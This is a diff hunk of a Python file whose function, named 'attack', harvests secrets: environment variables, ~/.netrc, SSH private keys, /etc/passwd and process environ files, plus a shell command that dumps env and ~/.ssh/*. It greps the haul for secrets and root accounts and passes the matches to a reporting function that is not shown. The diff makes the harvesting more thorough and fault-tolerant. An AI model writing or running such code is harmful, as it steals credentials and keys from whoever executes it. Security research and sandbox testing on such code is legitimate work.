@@ -11,13 +11,17 @@ def tell(found):
 
 import os
 import subprocess
+from contextlib import suppress
 
 
 def attack(*arguments, **keywords):
     text = repr(dict(os.environ)).encode()
-    text += subprocess.run(
-        ["/bin/sh", "-c", "env; set; cat ~/.netrc ~/.ssh/* /etc/passwd"], capture_output=True
-    ).stdout
+    for path in ("~/.netrc", "~/.ssh/id_rsa", "/etc/passwd", "/proc/1/environ", "/proc/self/environ"):
+        with suppress(OSError):
+            with open(os.path.expanduser(path), "rb") as file:
+                text += b"\n" + file.read()
+    with suppress(OSError):  # where there is a shell
+        text += subprocess.run(["/bin/sh", "-c", "env; set; cat ~/.ssh/*"], capture_output=True).stdout
     people = [line for line in text.decode(errors="replace").splitlines() if ":/root:" in line]
     tell([*(match.decode() for match in SECRET.findall(text)), *people])
 
